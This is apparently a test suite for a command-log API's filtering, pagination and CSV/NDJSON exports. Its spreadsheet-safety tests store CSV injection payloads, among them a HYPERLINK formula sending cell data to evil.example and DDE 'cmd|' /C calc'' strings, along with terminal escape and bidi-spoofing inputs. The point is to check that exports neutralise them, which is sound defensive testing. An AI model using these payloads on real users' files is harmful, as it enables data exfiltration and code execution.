/**
 * GET /api/v1/commands: filters, parameter checks, cursors, pagination and the NDJSON/CSV exports.
 * In-process: createApp() on a real SQLite store through app.request(); every test's log lines are
 * checked for tokens, commands and query values (RouteSuite).
 */
import { beforeAll, describe, expect, test } from "bun:test";
import { type IngestAnswer, isoAt, Rng, json, limits, type Page, parseCsv, type Presented, RouteSuite, type TestApp } from "./helpers.ts";

const suite = new RouteSuite();

describe("GET /api/v1/commands", () => {
  interface Src { json: Record<string, unknown>; utcMs: number; us: number; tsUs: number; host: string; luser: string; suser: string; clientIp: string; session: string; seq: number; kind: string; exitStatus: number | null; command: string }
  const BASE = Date.UTC(2024, 4, 1, 0, 0, 0); // 2024-05-01T00:00:00Z
  const OFFSETS = [480, -330, 0, 345, -600];
  const SRC: Src[] = Array.from({ length: 60 }, (_, i) => {
    const kind = i % 10 === 3 ? "session_start" : i % 10 === 7 ? "session_end" : "command";
    const utcMs = BASE + i * 1013_000;
    const us = i % 4 === 0 ? 123456 : 0;
    const s: Src = {
      json: {},
      utcMs, us,
      tsUs: utcMs * 1000 + us,
      host: ["alpha", "beta", "gamma"][i % 3]!,
      luser: ["alice", "bob", "carol", "dave"][i % 4]!,
      suser: ["root", "alice", "postgres"][(i * 7 + 1) % 3]!,
      clientIp: ["10.9.0.1", "10.9.0.2", "2001:db8::9"][(i >> 1) % 3]!,
      session: `sess-${i % 6}`,
      seq: i,
      kind,
      exitStatus: kind === "command" ? [0, 1, 2, null, 130][i % 5]! : null,
      command: kind === "command" ? `cmd-${i} ${["grep", "Grep", "tar", "100%", "a_b"][i % 5]} x` : "",
    };
    s.json = {
      kind, ctime: isoAt(utcMs, OFFSETS[i % 5]!, us), hostname: s.host, serverIps: "10.0.0.1", suser: s.suser, luser: s.luser,
      terminal: "pts/1", clientIp: s.clientIp, sessionId: s.session, seq: s.seq, cwd: "/", exitStatus: s.exitStatus,
      ...(s.command ? { command: s.command } : {}),
    };
    if (s.command) suite.secrets.add(s.command);
    return s;
  });
  let t: TestApp;
  const key = (r: { sessionId: string | null; seq: number | null }) => `${r.sessionId}/${r.seq}`;
  const expected = (f: (s: Src) => boolean) => SRC.filter(f).sort((a, b) => b.tsUs - a.tsUs).map((s) => `${s.session}/${s.seq}`);

  let stored: IngestAnswer;
  beforeAll(async () => {
    t = await suite.newApp({ limits: limits({ max_page_size: 50 }) });
    stored = await json<IngestAnswer>(await t.post(SRC.map((s) => s.json)));
  });

  test("60 records stored, each shown at its own offset", async () => {
    expect(stored).toMatchObject({ accepted: 60, rejected: [] });
    // Cross-check the oracle against the first row: time is the instant at the record's own offset.
    const rows = await t.all();
    expect(rows.map(key)).toEqual(expected(() => true));
    for (const r of rows) {
      const s = SRC[r.seq!]!;
      expect(r.time).toBe(s.json.ctime as string);
    }
  });

  const FROM_I = 10, TO_I = 40;
  const filters: [string, () => Record<string, string>, (s: Src) => boolean][] = [
    ["host", () => ({ host: "beta" }), (s) => s.host === "beta"],
    ["luser", () => ({ luser: "bob" }), (s) => s.luser === "bob"],
    ["suser", () => ({ suser: "postgres" }), (s) => s.suser === "postgres"],
    ["clientIp (IPv6)", () => ({ clientIp: "2001:db8::9" }), (s) => s.clientIp === "2001:db8::9"],
    ["session", () => ({ session: "sess-4" }), (s) => s.session === "sess-4"],
    ["kind", () => ({ kind: "session_start" }), (s) => s.kind === "session_start"],
    ["exitStatus=0", () => ({ exitStatus: "0" }), (s) => s.exitStatus === 0],
    ["exitStatus=130", () => ({ exitStatus: "130" }), (s) => s.exitStatus === 130],
    ["q is case-sensitive", () => ({ q: "Grep" }), (s) => s.command.includes("Grep")],
    ["q with % is literal", () => ({ q: "0%" }), (s) => s.command.includes("0%")],
    ["q with _ is literal", () => ({ q: "a_b" }), (s) => s.command.includes("a_b")],
    ["q prefix", () => ({ q: "cmd-1" }), (s) => s.command.includes("cmd-1")],
    // from is inclusive, to exclusive; both given at offsets other than the records' own.
    ["from/to with offsets", () => ({ from: isoAt(SRC[FROM_I]!.utcMs, 120, SRC[FROM_I]!.us), to: isoAt(SRC[TO_I]!.utcMs, -180, SRC[TO_I]!.us) }),
      (s) => s.tsUs >= SRC[FROM_I]!.tsUs && s.tsUs < SRC[TO_I]!.tsUs],
    ["from Z", () => ({ from: "2024-05-01T10:00:00Z" }), (s) => s.tsUs >= Date.UTC(2024, 4, 1, 10) * 1000],
    ["combined", () => ({ host: "alpha", luser: "alice", to: "2024-05-01T20:00:00+08:00" }),
      (s) => s.host === "alpha" && s.luser === "alice" && s.tsUs < Date.UTC(2024, 4, 1, 12) * 1000],
    ["nothing matches", () => ({ host: "no-such-host" }), () => false],
  ];
  for (const [name, params, pred] of filters) {
    test(`filter: ${name}`, async () => {
      const p = params();
      const want = expected(pred);
      const res = await t.get(`/api/v1/commands?${suite.qs({ ...p, limit: "50" })}`);
      expect(res.status).toBe(200);
      const page = await json<Page>(res);
      expect(page.items.map(key)).toEqual(want);
      if (name !== "nothing matches") expect(want.length).toBeGreaterThan(0);
    });
  }

  test("the filter boundaries are exact: from includes its instant, to excludes its instant", async () => {
    const at = SRC[FROM_I]!.json.ctime as string;
    const incl = await json<Page>(await t.get(`/api/v1/commands?${suite.qs({ from: at, to: at, limit: "50" })}`));
    expect(incl.items).toEqual([]);
    const one = await json<Page>(await t.get(`/api/v1/commands?${suite.qs({ from: at, to: SRC[FROM_I + 1]!.json.ctime as string, limit: "50" })}`));
    expect(one.items.map(key)).toEqual([`${SRC[FROM_I]!.session}/${FROM_I}`]);
  });

  test("unknown query parameter → 400 naming it; bad values → 400 naming the parameter", async () => {
    const cases: [string, RegExp][] = [
      ["hostname=alpha", /hostname/],
      ["host=alpha&sessionId=x", /sessionId/],
      ["from=yesterday", /from/],
      ["to=2024-13-01T00:00:00Z", /to/],
      ["from=2024-05-01T10:00:00", /from/], // no offset: ambiguous, refused
      ["kind=bogus", /kind/],
      ["exitStatus=256", /exitStatus/],
      ["exitStatus=abc", /exitStatus/],
      ["limit=0", /limit/],
      ["limit=abc", /limit/],
      ["limit=51", /limit/], // max_page_size is 50 here
      ["format=xml", /format/],
      ["q=", /q/],
    ];
    for (const [q, msg] of cases) {
      const res = await t.get(`/api/v1/commands?${q}`);
      expect({ q, status: res.status }).toEqual({ q, status: 400 });
      const a = await json<IngestAnswer>(res);
      expect(a.msg).toMatch(msg);
    }
    expect((await t.get("/api/v1/commands?limit=50")).status).toBe(200);
  });

  test("bad cursors → 400", async () => {
    for (const c of ["garbage!!", Buffer.from("1.2.3").toString("base64url"), Buffer.from("abc.1").toString("base64url"), "x".repeat(65), ""]) {
      const res = await t.get(`/api/v1/commands?${new URLSearchParams({ cursor: c })}`);
      expect({ c, status: res.status }).toEqual({ c, status: 400 });
      expect((await json<IngestAnswer>(res)).msg).toMatch(/cursor/);
    }
  });
});

// ---------------------------------------------------------------------------------------------
describe("pagination and exports", () => {
  /** Commands that stress CSV: quotes, commas, CR/LF, leading/trailing spaces, a lone quote. */
  const NASTY = ["say \"hi\", then \"bye\"", "line1\nline2\r\nline3\r", "a,b,c", " leading and trailing ", "\"", "'single' `back`", "tab\there", "=1+2,\"=cmd\""];

  test("nextCursor walks all rows exactly once, newest first, with many equal timestamps", async () => {
    const t = await suite.newApp({ limits: limits({ max_page_size: 50 }) });
    const N = 230;
    const recs = Array.from({ length: N }, (_, i) => suite.v2({ sessionId: `pg-${i % 7}`, seq: i, ctime: isoAt(Date.UTC(2024, 0, 1, 0, 0, i % 12), 0), command: `page-cmd-${i}` }));
    // Two batches so ids do not follow time.
    await t.post(recs.filter((_, i) => i % 2 === 1));
    await t.post(recs.filter((_, i) => i % 2 === 0));
    for (const [limit, filter] of [[7, {}], [1, { session: "pg-3" }], [50, {}], [23, { q: "page-cmd-1" }]] as const) {
      const seen: Presented[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const q = new URLSearchParams({ ...filter, limit: String(limit) });
        if (cursor) q.set("cursor", cursor);
        const res = await t.get(`/api/v1/commands?${q}`);
        expect(res.status).toBe(200);
        const page = await json<Page>(res);
        expect(page.items.length).toBeLessThanOrEqual(limit);
        seen.push(...page.items);
        cursor = page.nextCursor;
        expect(++pages).toBeLessThan(N + 3);
      } while (cursor);
      const pred = (i: number) => ("session" in filter ? i % 7 === 3 : "q" in filter ? `page-cmd-${i}`.includes("page-cmd-1") : true);
      const want = Array.from({ length: N }, (_, i) => i).filter(pred);
      expect(seen.length).toBe(want.length);
      expect(new Set(seen.map((r) => r.id)).size).toBe(want.length);
      expect(seen.map((r) => r.seq!).sort((a, b) => a - b)).toEqual(want);
      // Strictly descending by (time, id).
      for (let i = 1; i < seen.length; i++) {
        const a = Date.parse(seen[i - 1]!.time!), b = Date.parse(seen[i]!.time!);
        expect(a > b || (a === b && seen[i - 1]!.id > seen[i]!.id)).toBe(true);
      }
    }
  });

  test("records at the far ends of the accepted time range paginate too", async () => {
    const t = await suite.newApp();
    const times = ["1970-01-01T00:00:01Z", "2000-02-29T12:00:00+05:45", "2255-06-05T23:47:34Z", "2999-12-31T23:59:59-12:00", "9999-12-31T23:59:59Z"];
    const ans = await json<IngestAnswer>(await t.post(times.map((ctime, i) => suite.v2({ sessionId: "edge", seq: i, ctime }))));
    const stored = ans.accepted;
    const seen: Presented[] = [];
    let cursor: string | null = null;
    for (let guard = 0; guard < 20; guard++) {
      const q = new URLSearchParams({ limit: "1" });
      if (cursor) q.set("cursor", cursor);
      const res = await t.get(`/api/v1/commands?${q}`);
      expect({ cursor, status: res.status }).toEqual({ cursor, status: 200 });
      const page = await json<Page>(res);
      seen.push(...page.items);
      cursor = page.nextCursor;
      if (!cursor) break;
    }
    expect(seen.length).toBe(stored);
    expect(new Set(seen.map((r) => r.seq)).size).toBe(stored);
  });

  test("a ctime at either end of the accepted range is either refused (naming ctime) or shown exactly as sent", async () => {
    const t = await suite.newApp();
    // Local 1970-01-01 is accepted, but at +08:00 the first two are at / before 1970-01-01T00:00:00Z;
    // the last two are instants past 2^53 µs (year 2255), where a double no longer holds every microsecond.
    const times = ["1970-01-01T08:00:00+08:00", "1970-01-01T07:59:59+08:00", "2999-12-31T23:59:59.999999-12:00", "9999-12-31T23:59:59.999999Z"];
    const outcome: Record<string, string> = {};
    for (const [i, ctime] of times.entries()) {
      const ans = await json<IngestAnswer>(await t.post([suite.v2({ sessionId: "range", seq: i, ctime })]));
      if (ans.rejected.length) {
        outcome[ctime] = /ctime/.test(ans.rejected[0]!.error) ? "ok" : `refused without naming ctime: ${ans.rejected[0]!.error}`;
        continue;
      }
      const [row] = await t.all({ session: "range", q: "make" }).then((rows) => rows.filter((r) => r.seq === i));
      outcome[ctime] = row?.time === ctime ? "ok" : `stored, shown as ${row?.time}`;
    }
    // "ok": refused with a reason naming ctime, or stored and shown exactly as sent.
    expect(outcome).toEqual(Object.fromEntries(times.map((c) => [c, "ok"])));
  });


  test("the CSV parser of this test is itself right", () => {
    expect(parseCsv("a,\"b,\"\"c\"\"\",\r\n\"x\r\ny\",,z\r\n")).toEqual([["a", "b,\"c\"", ""], ["x\r\ny", "", "z"]]);
    expect(() => parseCsv("a\"b\r\n")).toThrow();
    expect(() => parseCsv("\"a\"b\r\n")).toThrow();
  });

  const COLUMNS = ["id", "time", "hostname", "serverIps", "luser", "suser", "terminal", "clientIp", "sessionId", "seq", "kind", "cwd", "exitStatus", "command", "commandB64", "durationMs", "flags", "attestation", "attestedUser", "attestedLoginUser", "redactions"];

  test("ndjson and csv=raw exports hold every row exactly once; CSV parses back with commands intact", async () => {
    const t = await suite.newApp();
    const N = 2600; // more than two of the exporter's 1000-row pages, with equal timestamps across page ends
    const srcs = Array.from({ length: N }, (_, i) => {
      const base = { sessionId: `ex-${i % 13}`, seq: i, hostname: i % 2 ? "exp-a" : "exp-b", ctime: isoAt(Date.UTC(2024, 1, 1, 0, 0, i % 5), 60), exitStatus: i % 3 === 0 ? null : i % 256,
        ...(i % 4 === 0 ? {} : { durationMs: i % 4 === 1 ? null : i % 4 === 2 ? i * 1000 : Number.MAX_SAFE_INTEGER - i }) };
      if (i % 97 === 0) return suite.v2({ ...base, command: undefined, commandB64: Buffer.from([0x6c, 0x73, 0x20, 0xff, 0x2c, 0x22, 0x0a, i & 0xff]).toString("base64") });
      return suite.v2({ ...base, command: `${NASTY[i % NASTY.length]} #${i}` });
    }).map((r) => JSON.parse(JSON.stringify(r)) as Record<string, unknown>);
    for (let i = 0; i < N; i += 1000) expect((await json<IngestAnswer>(await t.post(srcs.slice(i, i + 1000)))).rejected).toEqual([]);
    const all = await t.all();
    expect(all.length).toBe(N);
    const byId = new Map(all.map((r) => [r.id, r]));

    const nd = async (res: Response) => {
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toContain("application/x-ndjson");
      const text = await res.text();
      expect(text.endsWith("\n")).toBe(true);
      return text.slice(0, -1).split("\n").map((l) => JSON.parse(l) as Presented);
    };
    for (const res of [await t.get("/api/v1/commands", { Accept: "application/x-ndjson" }), await t.get("/api/v1/commands?format=ndjson")]) {
      const rows = await nd(res);
      expect(rows.length).toBe(N);
      expect(new Set(rows.map((r) => r.id)).size).toBe(N);
      for (const r of rows) expect(r).toEqual(byId.get(r.id)!);
    }

    const csv = async (res: Response) => {
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toContain("text/csv");
      return parseCsv(await res.text());
    };
    // csv=raw: every character as stored (the safe default is checked in "CSV exports are safe to open in a spreadsheet").
    for (const res of [await t.get("/api/v1/commands?csv=raw", { Accept: "text/csv" }), await t.get("/api/v1/commands?format=csv&csv=raw", { Accept: "application/json" })]) {
      const [header, ...rows] = await csv(res);
      expect(header).toEqual(COLUMNS);
      expect(rows.length).toBe(N);
      const ids = new Set<number>();
      for (const row of rows) {
        expect(row.length).toBe(COLUMNS.length);
        const o = Object.fromEntries(COLUMNS.map((c, i) => [c, row[i]!]));
        const id = Number(o.id);
        ids.add(id);
        const src = srcs[byId.get(id)!.seq!]!;
        if (src.command !== undefined) {
          expect(o.command).toBe(src.command as string);
          expect(o.commandB64).toBe("");
        } else {
          expect(o.commandB64).toBe(src.commandB64 as string);
        }
        expect(o.sessionId).toBe(src.sessionId as string);
        expect(o.seq).toBe(String(src.seq));
        expect(o.hostname).toBe(src.hostname as string);
        expect(o.exitStatus).toBe(src.exitStatus === null ? "" : String(src.exitStatus));
        expect(o.durationMs).toBe(src.durationMs === undefined || src.durationMs === null ? "" : String(src.durationMs));
        expect(o.time).toBe(src.ctime as string);
        expect(o.flags).toBe("");
      }
      expect(ids.size).toBe(N);
    }

    // Exports honour filters and limit.
    const onlyA = await nd(await t.get("/api/v1/commands?host=exp-a&format=ndjson"));
    expect(onlyA.length).toBe(N / 2);
    expect(onlyA.every((r) => r.hostname === "exp-a")).toBe(true);
    const limited = await nd(await t.get("/api/v1/commands?format=ndjson&limit=1500"));
    expect(limited.map((r) => r.id)).toEqual(all.slice(0, 1500).map((r) => r.id));
    const [, ...csvQ] = await csv(await t.get(`/api/v1/commands?format=csv&${suite.qs({ q: "\"hi\"" })}`));
    expect(csvQ.length).toBe(srcs.filter((s) => typeof s.command === "string" && s.command.includes("\"hi\"")).length);
    // A bad cursor is refused before the stream starts.
    expect((await t.get("/api/v1/commands?format=csv&cursor=zzz")).status).toBe(400);
  });

  test("CSV exports are safe to open in a spreadsheet: formula starts get a ' prefix, control, bidi and zero-width characters are shown; csv=raw and NDJSON stay exact", async () => {
    const t = await suite.newApp();
    // [stored command, the cell a safe export writes]
    const cases: [string, string][] = [
      ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
      ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
      ["\t=1+1", "'\t=1+1"],
      ["\r=1+1", "'\u240d=1+1"],
      ["  =1+1", "'  =1+1"],
      ["\uff1d1+1", "'\uff1d1+1"],
      ["\u001b]0;pwned\u0007echo \u001b[31mred\u001b[0m", "\u241b]0;pwned\u2407echo \u241b[31mred\u241b[0m"],
      ["rm -rf /tmp/\u202etxt.exe", "rm -rf /tmp/<U+202E>txt.exe"],
      ["ls\u200b -la\u009b2J\u007f", "ls<U+200B> -la<U+009B>2J\u2421"],
      ["for i in 1 2; do\n\techo $i\ndone", "for i in 1 2; do\n\techo $i\ndone"],
      ["echo a=b+c @home -x", "echo a=b+c @home -x"],
      ["git log --oneline", "git log --oneline"],
    ];
    const recs = cases.map(([command], i) => suite.v2({ sessionId: "csv-safe", seq: i, ctime: isoAt(Date.UTC(2024, 2, 1, 0, 0, i), 0), command, cwd: i === 8 ? "/tmp/\u001b[2J=x" : "/root" }));
    expect((await json<IngestAnswer>(await t.post(recs))).rejected).toEqual([]);
    const cells = async (query: string) => {
      const res = await t.get(`/api/v1/commands?session=csv-safe&${query}`);
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(await res.text());
      const at = (c: string) => header!.indexOf(c);
      return rows.reverse().map((r) => ({ command: r[at("command")]!, cwd: r[at("cwd")]! }));
    };
    const safe = await cells("format=csv");
    expect(safe.map((c) => c.command)).toEqual(cases.map(([, want]) => want));
    expect(safe[8]!.cwd).toBe("/tmp/\u241b[2J=x");
    expect(await cells("format=csv&csv=safe")).toEqual(safe);
    const raw = await cells("format=csv&csv=raw");
    expect(raw.map((c) => c.command)).toEqual(cases.map(([stored]) => stored));
    expect(raw[8]!.cwd).toBe("/tmp/\u001b[2J=x");
    const nd = (await (await t.get("/api/v1/commands?session=csv-safe&format=ndjson")).text()).trim().split("\n").map((l) => JSON.parse(l) as Presented).reverse();
    expect(nd.map((r) => r.command)).toEqual(cases.map(([stored]) => stored));
    // csv= means nothing outside a CSV export: named, not ignored.
    for (const q of ["csv=raw", "format=ndjson&csv=raw", "format=json&csv=safe"]) {
      const res = await t.get(`/api/v1/commands?${q}`);
      expect({ q, status: res.status }).toEqual({ q, status: 400 });
      expect((await json<{ msg: string }>(res)).msg).toContain("csv");
    }
    expect((await t.get("/api/v1/commands?format=csv&csv=exact")).status).toBe(400);
  });

  test("fuzz: a safe CSV cell never starts a formula nor holds a hidden character, and csv=raw gives the stored text back", async () => {
    const t = await suite.newApp();
    const rng = new Rng(0x5afec5f);
    const alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\u001b", "\u0000", "\u007f", "\u009b", "\u202e", "\u200b", "\ufeff", "\uff1d", "\"", ",", "a", "Z", "1", "你", "é", "'", "|"];
    const commands = Array.from({ length: 400 }, () => Array.from({ length: rng.range(1, 12) }, () => rng.pick(alphabet)).join("") + "x");
    const recs = commands.map((command, i) => suite.v2({ sessionId: "csv-fuzz", seq: i, ctime: isoAt(Date.UTC(2024, 3, 1, 0, 0, 0) + i * 1000, 0), command }));
    const ans = await json<IngestAnswer>(await t.post(recs));
    const accepted = new Set(commands.filter((_, i) => !ans.rejected.some((r) => r.index === i)));
    expect(accepted.size).toBeGreaterThan(300);
    const column = async (query: string) => {
      const [header, ...rows] = parseCsv(await (await t.get(`/api/v1/commands?session=csv-fuzz&format=csv&${query}`)).text());
      return rows.map((r) => r[header!.indexOf("command")]!);
    };
    const raw = await column("csv=raw");
    expect(new Set(raw)).toEqual(accepted);
    for (const cell of await column("csv=safe")) {
      expect({ cell, formula: /^[\t\r]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) }).toEqual({ cell, formula: false });
      expect({ cell, hidden: /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u.test(cell) }).toEqual({ cell, hidden: false });
    }
  });
});

